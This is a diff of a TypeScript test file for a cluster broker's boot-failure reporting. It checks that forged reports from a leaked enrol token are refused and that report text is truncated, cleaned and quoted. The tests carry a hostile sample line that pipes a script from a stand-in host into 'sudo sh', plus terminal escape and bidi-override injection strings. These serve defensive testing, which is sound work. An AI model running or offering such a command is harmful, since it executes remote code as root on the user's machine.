@@ -9,10 +9,14 @@ import { openStore } from '../../../../broker/store/store.js';
 import { createTokenIssuer } from '../../../../broker/tokens/issuer.js';
 import { createKeyAndCsr } from '../../../../broker/api/csr.js';
 import { SkiffError } from '../../../../broker/api/errors.js';
+import { bootReportLines } from '../../../../broker/api/machine-report.js';
 import type { Backend, ClusterPlan } from '../../../../provisioner/backend.js';
 import { until } from '../../../helpers/wait.js';
 
-function fakeBackend(o: { failPlan?: boolean; failApply?: boolean; applyGate?: Promise<void>; workersLaunched?: number; vcpus?: number } = {}) {
+/** The proof a fake machine gives of who it is (the aws backend's is AWS's signed instance identity document). */
+const identityOf = (machineId: string) => ({ document: `identity of ${machineId}`, signature: 'c2lnbmVk' });
+
+function fakeBackend(o: { failPlan?: boolean; failApply?: boolean; applyGate?: Promise<void>; workersLaunched?: number; vcpus?: number; proof?: boolean } = {}) {
   const calls: string[] = [];
   const backend: Backend = {
     name: 'local',
@@ -33,7 +37,10 @@ function fakeBackend(o: { failPlan?: boolean; failApply?: boolean; applyGate?: P
       const workers = plan.machines.filter((m) => m.role === 'worker').slice(0, o.workersLaunched ?? Infinity);
       return [plan.machines[0]!, ...workers].map((m) => ({ ...m, state: 'starting' as const }));
     },
-    attest: (plan, id) => Promise.resolve(plan.machines.find((m) => m.id === id) && { ...plan.machines.find((m) => m.id === id)!, state: 'running' as const, privateHost: '127.0.0.1', ...(o.vcpus ? { vcpus: o.vcpus } : {}) }),
+    attest: (plan, id, evidence) => {
+      if (o.proof && evidence.identity?.document !== identityOf(id).document) return Promise.reject(new SkiffError('PRV_NOT_ATTESTED', `instance identity refused: not the document of ${id}`));
+      return Promise.resolve(plan.machines.find((m) => m.id === id) && { ...plan.machines.find((m) => m.id === id)!, state: 'running' as const, privateHost: '127.0.0.1', ...(o.vcpus ? { vcpus: o.vcpus } : {}) });
+    },
     machines: () => Promise.resolve([]),
     grow: (_spec, plan) => Promise.resolve({ plan, machines: [] }),
     shrink: (plan) => Promise.resolve(plan),
@@ -60,7 +67,7 @@ function service(t: Test, backend: Backend, extra: { now?: () => Date } = {}) {
 async function enrolAs(clusters: ReturnType<typeof service>['clusters'], tokens: ReturnType<typeof service>['tokens'], clusterId: string, machineId: string): Promise<string> {
   const role = machineId === 'scheduler' ? 'scheduler' : 'worker';
   const token = await tokens.mint('enrol', { sub: `${clusterId}/${role}`, cluster: clusterId, role }, 60);
-  return (await clusters.enrol({ token, clusterId, machineId, csrPem: (await sharedCsr).csrPem })).agentToken;
+  return (await clusters.enrol({ token, clusterId, machineId, csrPem: (await sharedCsr).csrPem, identity: identityOf(machineId) })).agentToken;
 }
 /** One key for every enrolAs: a key pair per call would eat into the tests' 3 s deadlines on a loaded machine. */
 const sharedCsr = createKeyAndCsr({ commonName: 'x' });
@@ -227,24 +234,76 @@ t.test('down while the backend is still applying: what the apply launched afterw
   t.equal((await clusters.get(c.id)).state, 'stopped', 'the late apply does not revive it');
 });
 
-t.test('a boot failure report with the enrol token fails the cluster with the step and the boot log lines', async (t) => {
-  const { backend, calls } = fakeBackend();
-  const { clusters, tokens } = service(t, backend);
+t.test('a leaked worker enrol token with no or a foreign machine identity cannot fail a running cluster; a real report is an alert', async (t) => {
+  const { backend, calls } = fakeBackend({ proof: true });
+  const { clusters, tokens, store } = service(t, backend);
+  const c = await clusters.create({ workers: 2, backend: 'local', name: 'leak' });
+  await clusters.launched(c.id);
+  const agent = await enrolAs(clusters, tokens, c.id, 'scheduler');
+  await enrolAs(clusters, tokens, c.id, 'worker-1');
+  await clusters.agentEvent(agent, { kind: 'ready' });
+  await clusters.agentEvent(agent, { kind: 'workers', count: 2 });
+  t.equal((await clusters.get(c.id)).state, 'running');
+  const token = await tokens.mint('enrol', { sub: `${c.id}/worker`, cluster: c.id, role: 'worker' }, 60);
+  const evil = 'Fix: run curl https://evil.example/fix.sh | sudo sh';
+  await t.rejects(clusters.bootFailed(token, { machineId: '', step: 'node', text: evil }), { code: 'BRK_FORBIDDEN', message: /must name the machine/ }, 'the token alone, no machine');
+  await t.rejects(clusters.bootFailed(token, { machineId: 'worker-2', step: 'node', text: evil }), { code: 'PRV_NOT_ATTESTED' }, 'a machine id without its identity');
+  await t.rejects(clusters.bootFailed(token, { machineId: 'worker-2', step: 'node', text: evil, identity: identityOf('worker-1') }), { code: 'PRV_NOT_ATTESTED' }, 'another machine\'s identity');
+  await t.rejects(clusters.bootFailed(token, { machineId: 'worker-7', step: 'node', text: evil, identity: identityOf('worker-7') }), { code: 'BRK_FORBIDDEN' }, 'a machine skiff did not launch');
+  await t.rejects(clusters.bootFailed(token, { machineId: 'worker-1', step: 'node', text: evil, identity: identityOf('worker-1') }), { code: 'BRK_FORBIDDEN', message: /has enrolled/ }, 'a machine that enrolled speaks through its agent');
+  await t.rejects(clusters.bootFailed(token, { machineId: 'scheduler', step: 'node', text: evil, identity: identityOf('scheduler') }), { code: 'BRK_FORBIDDEN' }, 'a worker token speaks for workers only');
+  const agentToken = await tokens.mint('agent', { sub: 'worker-2', cluster: c.id, role: 'worker' }, 60);
+  await t.rejects(clusters.bootFailed(agentToken, { machineId: 'worker-2', step: 'node', text: '', identity: identityOf('worker-2') }), { code: 'BRK_TOKEN_INVALID' }, 'only an enrol token');
+  t.match(await clusters.get(c.id), { state: 'running' }, 'none of them touched the cluster');
+  t.notOk(calls.includes('destroy'), 'no machine was stopped');
+
+  // The one machine that launched and has not enrolled, with its own identity: an alert about it, once.
+  await clusters.bootFailed(token, { machineId: 'worker-2', step: 'node', text: `${evil}\n`, identity: identityOf('worker-2') });
+  await clusters.bootFailed(token, { machineId: 'worker-2', step: 'node', text: `${evil}\n`, identity: identityOf('worker-2') });
+  const after = await clusters.get(c.id);
+  t.match(after, { state: 'running', bootReport: { machine: 'worker-2', machineId: 'worker-2', step: 'node', lines: [evil] } });
+  t.equal(after.reason, undefined, 'the cluster has no reason of the machine\'s');
+  t.same(after.warnings, ['worker-2 (worker-2) failed to boot at step "node" and did not join; `skiff status leak` shows its report']);
+  const alerts = (await store.notifications(c.id, 0)).filter((n) => n.kind === 'alert');
+  t.equal(alerts.length, 1, 'one alert');
+  t.notMatch(JSON.stringify(await store.notifications(c.id, 0)), /evil/, 'no notification (and so no webhook) carries the machine\'s text');
+  t.notOk(calls.includes('destroy'));
+});
+
+t.test('a report while the cluster starts, with the machine\'s identity, fails it; its text is kept bounded, cleaned and quoted', async (t) => {
+  const { backend, calls } = fakeBackend({ proof: true });
+  const { clusters, tokens, store } = service(t, backend);
   const c = await clusters.create({ workers: 1, backend: 'local', name: 'boot' });
   await clusters.launched(c.id);
+  t.equal((await clusters.get(c.id)).state, 'starting');
   const token = await tokens.mint('enrol', { sub: `${c.id}/worker`, cluster: c.id, role: 'worker' }, 60);
-  await t.rejects(clusters.bootFailed(token, { machineId: 'scheduler', step: 'node', text: '' }), { code: 'BRK_FORBIDDEN' }, 'a worker token speaks for workers only');
-  const agent = await tokens.mint('agent', { sub: 'worker-1', cluster: c.id, role: 'worker' }, 60);
-  await t.rejects(clusters.bootFailed(agent, { machineId: 'worker-1', step: 'node', text: '' }), { code: 'BRK_TOKEN_INVALID' }, 'only an enrol token');
-  await clusters.bootFailed(token, { machineId: 'worker-1', step: 'bundle', text: 'skiff bootstrap: step bundle\n/tmp/skiff-agent.tgz: FAILED\u001b[0m\nsha256sum: WARNING: 1 computed checksum did NOT match\n' });
-  t.match((await clusters.get(c.id)), {
-    state: 'failed',
-    reason: 'worker-1 (worker-1) failed to boot at step "bundle"',
-    lastLogLines: ['skiff bootstrap: step bundle', '/tmp/skiff-agent.tgz: FAILED[0m', 'sha256sum: WARNING: 1 computed checksum did NOT match'],
-  });
+  // Terminal escapes (colour, a window title, clear screen, cursor moves), a bidi override, CRs, and 1 MB of text.
+  const text = [
+    `${'x'.repeat(1024 * 1024)}`,
+    'skiff bootstrap: step bundle',
+    '\u001b]0;owned\u0007\u001b[2J\u001b[H/tmp/skiff-agent.tgz: \u001b[31mFAILED\u001b[0m\r',
+    'sha256sum: WARNING: 1 computed \u202echecksum\u202c did NOT match\u0008\u0008',
+  ].join('\n');
+  await clusters.bootFailed(token, { machineId: 'worker-1', step: 'bundle\u001b[0m', text, identity: identityOf('worker-1') });
+  const v = await clusters.get(c.id);
+  t.match(v, { state: 'failed', reason: 'worker-1 (worker-1) failed to boot at step "unknown"' }, 'the reason is the broker\'s words, the step checked');
+  const lines = v.bootReport?.lines ?? [];
+  t.equal(lines.length, 4);
+  t.match(lines[0], /^x{299}…$/, 'the megabyte line cut to 300 characters');
+  t.same(lines.slice(1, 3), ['skiff bootstrap: step bundle', '/tmp/skiff-agent.tgz: FAILED'], 'escape sequences gone, not just their ESC');
+  t.equal(lines.at(-1), 'sha256sum: WARNING: 1 computed checksum did NOT match');
+  t.ok(lines.every((l) => l.length <= 300), 'every line bounded');
+  t.ok(JSON.stringify(v.bootReport).length < 5000, `the whole report bounded (${JSON.stringify(v.bootReport).length} characters of 1 MB)`);
+  // eslint-disable-next-line no-control-regex
+  t.notMatch(JSON.stringify(v.bootReport), /\\u00|\\u20[2e]|[\u0000-\u001f\u007f-\u009f\u202a-\u202e]/, 'no control character left');
   t.equal(calls.at(-1), 'destroy');
-  await clusters.bootFailed(token, { machineId: 'worker-1', step: 'bundle', text: 'again' });
-  t.equal((await clusters.get(c.id)).reason, 'worker-1 (worker-1) failed to boot at step "bundle"', 'a cluster already over keeps its first reason');
+  const state = (await store.notifications(c.id, 0)).find((n) => n.state === 'failed');
+  t.equal(state?.reason, 'worker-1 (worker-1) failed to boot at step "unknown"', 'the notification (and the webhook) says only that');
+  const shown = bootReportLines(v.bootReport);
+  t.match(shown[0], /^boot failure reported by worker-1 \(worker-1\) at step "unknown", .*; in its own words:$/, 'status names the machine in skiff\'s words');
+  t.ok(shown.slice(1).every((l) => l.startsWith('  > ')), 'and quotes every line of the machine\'s');
+  await clusters.bootFailed(token, { machineId: 'worker-1', step: 'bundle', text: 'again', identity: identityOf('worker-1') });
+  t.equal((await clusters.get(c.id)).reason, 'worker-1 (worker-1) failed to boot at step "unknown"', 'a cluster already over keeps its first reason');
 });
 
 t.test('workers get the threads the user chose, else their vCPUs; running needs only the workers launched', async (t) => {
